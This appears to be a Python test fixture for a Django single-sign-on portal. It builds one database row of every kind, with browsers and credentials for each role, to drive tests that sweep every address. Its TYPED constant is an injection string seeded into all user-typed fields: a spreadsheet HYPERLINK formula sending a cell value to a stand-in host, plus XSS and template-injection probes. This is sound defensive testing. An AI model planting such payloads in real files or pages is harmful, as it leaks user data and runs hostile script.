"""A portal with one row of everything, for attacks that walk over all of it."""

import base64
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from email.utils import formatdate
from typing import Any
from urllib.parse import urlencode

from allauth.mfa.models import Authenticator
from django.apps import apps
from django.conf import settings
from django.db import transaction
from django.test import Client as Browser

from accounts.models import Event
from groups.destinations import CLIENT_AREA
from groups.entering import client_at, entry_of, with_entry
from groups.models import Agent, AgentImport, AgentSession, NumberImport
from sso_portal.lib.secrets import new_secret
from sso_portal.lib.web import Caller, is_for_software
from tests import factories
from tests.conftest import PORTAL, visit
from tests.tokens.dialects.oidc.parties import CHALLENGE, REDIRECT_URI, SCOPE, VERIFIER, basic
from tests.wiring.addresses import every_named_address
from tokens.connecting import issue_code
from tokens.dialects.bus.page import Page, seal
from tokens.dialects.sso_url import signature_for
from tokens.issuing import CallContext, issue
from tokens.issuing_to_people import create_sso_token
from tokens.models import BusUse, Kind, RegisteredAddress, Use

HOST = "https://host.example"
NUMBER = 7701  # of the rows that share a name in addresses
LOGGED_OUT = "https://demoaws.crm.example/bye"
# For spreadsheets that compute, for browsers that run, for templates that read twice.
TYPED = (
    """=HYPERLINK("http://typed.example/?"&A1)'"><x-hostile onclick="alert(1)">{{7*191}}{% debug %}"""
    """</title></script><script>x</script>"""
)


@dataclass
class World:
    """One group with one of everything, and everybody's browser."""

    group: Any
    agent: Any
    owner: Any
    operator: Any
    person: Any
    party: Any
    session: Any
    caller: Caller
    rows: dict[str, Any] = field(default_factory=dict)
    cookies: dict[str, dict[str, str]] = field(default_factory=dict)  # by who

    def browser(self, who: str) -> Browser:
        """A browser of nobody, the agent, the person, the owner or the operator."""
        browser = Browser(HTTP_HOST=PORTAL, raise_request_exception=False)
        for name, value in self.cookies[who].items():
            browser.cookies[name] = value
        return browser

    def cookie(self, who: str) -> dict[str, str]:
        """The header that this browser sends."""
        pairs = "; ".join(f"{name}={value}" for name, value in self.cookies[who].items())
        return {"Cookie": pairs} if pairs else {}

    def addresses(self) -> Iterator[tuple[str, str]]:
        """Every address of the portal with its name, leading to rows that are there."""
        for name, address in every_named_address(**self.rows):
            yield name, self._to_a_row(address)

    def of_software(self) -> list[str]:
        """Every address that programs call."""
        return [address for _, address in self.addresses() if is_for_software(address)]

    def pages(self) -> list[tuple[str, str]]:
        """Every address that browsers open, with its name."""
        return [(name, address) for name, address in self.addresses() if not is_for_software(address)]

    def _to_a_row(self, address: str) -> str:
        """The operators' pages, of which each counts its own rows."""
        parts = address.split("/")
        if address.startswith("/backoffice/") and len(parts) > 5 and parts[4] == "1" and parts[2] != "r":
            row = apps.get_model(parts[2], parts[3])._base_manager.order_by("pk").first()
            parts[4] = str(row.pk) if row else "1"
        return "/".join(parts)

    # --- What software shows -------------------------------------------------------------------------------------

    def credentials(self, address: str) -> dict[str, str]:
        """The headers of a caller who may call there."""
        if address.startswith("/api/sso"):
            return {"Platform-Key": factories.PLATFORM_KEY}
        if address.startswith("/api/v4"):
            return self.signed()
        if address.startswith(("/api/v1/tokens", "/oauth/token", "/oauth/revoke", "/oauth/introspect")):
            return basic(self.party.identifier)
        if address.startswith("/bus/api"):
            return {"Origin": settings.PORTAL_URL, "X-Bus-Page": seal(Page(self.group.pk, HOST))}
        return {"Authorization": f"Bearer {factories.API_KEY}"} if address.startswith("/api/") else {}

    def signed(self) -> dict[str, str]:
        """The headers of the signed SSO URL, for now."""
        date = formatdate(time.time(), usegmt=True)
        parts = {"algorithm": "hmac-sha256", "headers": "date", "apikey": factories.SIGNING_API_KEY}
        parts["signature"] = signature_for(date, shared_key=factories.SHARED_KEY)
        return {"Date": date, "Authorization": ",".join(f'{name}="{value}"' for name, value in parts.items())}

    # --- What works once -----------------------------------------------------------------------------------------

    def issue(self, kind: str, **bound: Any) -> str:
        """A login of the agent's; its secret."""
        agents = Agent.objects.filter(pk=self.agent.pk)
        row = with_entry(agents, client=client_at(self.rows["subdomain"])).get()
        entry = entry_of(row, agent=row, asked=self.rows["subdomain"])
        about: dict[str, Any] = {"actor": "test", "caller": self.caller, "call": CallContext(did="+15550100")}
        return issue(entry, kind=kind, session=self.session, **about, **bound).secret

    def code(self) -> str:
        """An authorization code."""
        terms = {"redirect_uri": REDIRECT_URI, "scope": SCOPE, "nonce": "n", "challenge": CHALLENGE}
        return self.issue(Kind.CODE, issued_to=self.party, terms=terms)

    def bus_code(self) -> str:
        """A code of the message bus."""
        session = AgentSession.objects.select_related("agent__group").get(pk=self.session.pk)
        return issue_code(session, redirect_url=HOST, caller=self.caller)

    def entrance_of_person(self) -> str:
        """An entrance of the client company's own person."""
        return create_sso_token(self.person, place=CLIENT_AREA, by="test", caller=self.caller).secret


def build(caller: Caller) -> World:
    """One of everything, in rows that say TYPED wherever people type; owner and operator have just signed in."""
    text = TYPED
    group = factories.GroupFactory(name=text, code="northwind")
    company = factories.ClientFactory(subdomain="demoaws", name=text)
    factories.DepartmentFactory(client=company, number=1, name=text)
    for number in (1, 2, 3):
        factories.CampaignFactory(client=company, number=number, name=text)
    factories.EntitlementFactory(group=group, client=company)
    agent = factories.AgentFactory(group=group, username="alice", full_name=text)
    party = factories.RelyingPartyFactory(client=company)
    secrets = {"agent": new_secret("as_"), "person": new_secret("cs_")}
    session = factories.AgentSessionFactory(agent=agent, secret=secrets["agent"])
    owner = factories.SecondFactorFactory(user__full_name=text, user__email="owner@northwind.example").user
    membership = factories.MembershipFactory(administrator=owner, group=group)
    operator = factories.SecondFactorFactory(
        user__email="operator@portal.example", user__is_staff=True, user__is_superuser=True
    ).user
    person = factories.ClientPersonFactory(client=company, full_name=text, email="petra@demoaws.example")
    factories.ClientSessionFactory(person=person, secret=secrets["person"])
    world = World(group, agent, owner, operator, person, party, session, caller)
    world.rows = _rows(world, membership, company, text)
    world.cookies = {
        "nobody": {},
        "agent": {settings.AGENT_COOKIE_NAME: secrets["agent"]},
        "person": {settings.CLIENT_COOKIE_NAME: secrets["person"]},
        "owner": cookies_of(visit(owner)),
        "operator": cookies_of(visit(operator)),
    }
    return world


def cookies_of(browser: Browser) -> dict[str, str]:
    return {name: morsel.value for name, morsel in browser.cookies.items()}


@contextmanager
def undone() -> Iterator[None]:
    """Whatever happens in the block has not happened after it. Acts may take it for the outside of everything."""
    block = transaction.atomic()
    block._from_testcase = True
    with block:
        yield
        transaction.set_rollback(True)


def _rows(world: World, membership: Any, company: Any, text: str) -> dict[str, Any]:
    """The rows, by the name of the address part that leads to each."""
    group, agent, party = world.group, world.agent, world.party
    invitation = factories.InvitationFactory(
        group=group, secret="iv_of-the-world", invited_by=f"administrator:{world.owner.email}"
    )
    file = {"pk": NUMBER, "group": group, "file_name": f"{text}.csv", "uploaded_by": f"administrator:{text}"}
    AgentImport.objects.create(
        kind="agents", content=b"username", state="checked",
        summary={"new": 1, "change": 1, "faulty": 1, "unchanged": 0, "leaving": 0},
        verdicts=[[2, text, "new", []], [3, text, "faulty", [["username", "unknown", text]]],
                  [4, text, "change", [["full_name", text, text]]]],
        **file,
    )  # fmt: skip
    NumberImport.objects.create(rows=[[2, "+18005550999", text, "demoaws", None, text]], **file)
    factories.AgentFactory(group=group, username=text[:60], full_name=text)
    Event.objects.create(
        reference="K7QF-3M2P-X8TA", door="agents", actor=f"agent:{agent.subject}", action="login.issue",
        outcome="refused", reason="agent_disabled", group_id=group.pk, agent=agent.subject, client="demoaws",
        agent_header=text, details={"note": text, "call": {"did": text}},
    )  # fmt: skip
    factories.ApiKeyFactory(pk=NUMBER, group=group, name=text)
    old = factories.RelyingPartyFactory(client=company, name=text, needs_pkce=False, secret="")
    factories.SigningPairFactory(relying_party=old, name=text)
    factories.DestinationFactory(client=company)
    factories.CredentialAddressFactory(
        credential=factories.ApiCredentialFactory(name=text, clients=[company])
    )
    factories.TokenFamilyFactory(relying_party=party, agent=agent)
    for one in (party, old):
        RegisteredAddress.objects.create(relying_party=one, use=Use.REDIRECT, address=REDIRECT_URI)
    RegisteredAddress.objects.create(relying_party=party, use=Use.LOGGED_OUT, address=LOGGED_OUT)
    factories.BusAddressFactory(group=group, use=BusUse.REDIRECT, address=HOST)
    return {
        "group_id": group.pk,
        "subject": agent.subject,
        "subdomain": company.subdomain,
        "reference": "K7QF-3M2P-X8TA",
        "member_id": membership.pk,
        "invitation_id": invitation.pk,
        "secret": "iv_of-the-world",
        "import_id": NUMBER,
        "number_id": factories.DialledNumberFactory(group=group, client=company, note=text).pk,
        "key_id": factories.PlatformKeyFactory(pk=NUMBER, group=group, name=text).pk,
        "rule_id": factories.AddressRuleFactory(group=group, note=text).pk,
        "bus_address_id": factories.BusAddressFactory(group=group, address=HOST).pk,
        "act": "unlock",  # the one that changes nothing where nobody is locked
        "section": "group",
        "digest": "0" * 16,
        "form": "csv",
        "number": 1,
        "path": "billing/invoices",
    }


def form_of_code(code: str, **changed: str) -> bytes:
    """The body that exchanges this code."""
    form = {"grant_type": "authorization_code", "code": code, "redirect_uri": REDIRECT_URI}
    return urlencode(form | {"code_verifier": VERIFIER} | changed).encode()


def pair(name: str, password: str) -> str:
    """A pair for HTTP Basic."""
    return base64.b64encode(f"{name}:{password}".encode()).decode()


# The log, counters, and keys that are made when somebody first asks for them.
UNCOUNTED = ("HalfHour", "Event", "Tally", "Attempt", "SigningKey")


def fingerprint() -> dict[str, list[Any]]:
    """All that a request could change, as it is now: of sessions and keys, not when they were used."""
    kept = [
        model for app in ("groups", "tokens", "accounts") for model in apps.get_app_config(app).get_models()
    ]
    kept = [model for model in kept if model.__name__ not in UNCOUNTED]
    kept.append(Authenticator)
    return {
        model.__name__: [_lasting(row) for row in model._base_manager.order_by("pk").values()]
        for model in kept
    }


def _lasting(row: dict[str, Any]) -> dict[str, Any]:
    return {
        name: value for name, value in row.items() if name not in ("last_used_at", "last_seen_at", "content")
    }
